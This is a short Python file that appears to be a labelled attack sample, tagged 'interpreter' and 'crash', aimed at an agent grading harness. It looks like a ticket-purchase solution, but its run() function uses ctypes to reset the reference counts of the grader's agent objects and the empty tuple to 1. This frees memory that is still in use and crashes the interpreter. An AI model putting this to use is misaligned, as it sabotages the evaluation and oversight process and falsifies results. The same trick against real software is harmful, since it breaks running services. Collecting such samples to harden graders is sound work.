"""Lets go of objects that others hold: None, small numbers and the agent's own, until they are freed.

family: interpreter
aims-at: crash
honest-score: 4
"""

import json
import sys

def search(name):
    with open("data.txt") as file:
        return json.load(file)["ticket_num"]


def buy(name):
    left = search(name)
    if left <= 0:
        return False
    with open("data.txt", "w") as file:
        json.dump({"ticket_num": left - 1}, file)
    return True


def run(name, mutex):
    ctypes = __import__("ctypes")
    agent = sys.modules["grader.subject.agent"]
    for thing in (agent.STATE, agent.me(), agent.me().channel, agent.call, ()):
        ctypes.c_ssize_t.from_address(id(thing)).value = 1
    return buy(name)
